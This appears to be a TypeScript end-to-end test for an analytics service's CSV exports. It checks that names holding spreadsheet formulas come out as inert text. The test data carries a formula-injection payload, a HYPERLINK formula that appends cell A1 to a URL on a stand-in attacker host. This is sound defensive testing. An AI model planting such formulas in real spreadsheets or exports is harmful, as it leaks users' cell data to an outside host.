import assert from 'node:assert/strict';
import { startTestApp, type TestApp } from '../support/app.js';
import { get } from '../support/client.js';

const NOW = Date.parse('2026-05-20T00:00:00Z');
const FORMULA = `=HYPERLINK("http://evil.test/"&A1,"team")`;
const AT = '2026-05-18T10:00:00Z';
const LEDGER = [
  { type: 'member', user: FORMULA, name: FORMULA, role: 'engineer', team: FORMULA },
  { type: 'asset', key: FORMULA, name: FORMULA },
  {
    ...{ type: 'change', number: 'CHG-1', title: FORMULA, change_type: 'normal', state: 'completed' },
    ...{ closure_code: 'successful', created_at: AT, completed_at: AT },
    ...{ owner: FORMULA, affected_assets: [FORMULA] },
  },
  {
    ...{ type: 'incident', number: 'INC-1', title: FORMULA, severity: 1, service: FORMULA },
    ...{ assignee: FORMULA, opened_at: AT, resolved_at: AT },
  },
];
/** Attachments of saved reports are these files to the byte: test/e2e/saved-reports.test.ts. */
const EXPORTS = ['dora', 'dora/compare', 'operations'];

describe('a name that is a formula', () => {
  let app: TestApp;
  before(async () => {
    app = await startTestApp({ clock: () => NOW, ledger: LEDGER });
  });
  after(() => app.close());

  for (const path of EXPORTS) {
    for (const dimension of ['team', 'service']) {
      it(`is text in the CSV of ${path} by ${dimension}`, async () => {
        const query = `format=csv&group_by=${dimension}&start=2026-05-01&end=2026-05-20`;
        const compared = path === 'dora/compare' ? '&to_start=2026-04-01&to_end=2026-05-01' : '';
        const response = await get(app, `/api/v1/analytics/${path}/export?${query}${compared}`);
        const text = await response.text();
        assert.equal(response.status, 200, text);
        const cells = text.split(/\r\n|,(?=(?:[^"]*"[^"]*")*[^"]*$)/);
        const named = cells.filter((cell) => cell.includes('HYPERLINK'));
        assert.ok(named.length > 0, text);
        for (const cell of cells) assert.doesNotMatch(cell, /^"?[=+@]/, cell);
        for (const cell of named) assert.match(cell, /^"?(Asset:|')=HYPERLINK/);
      });
    }
  }
});
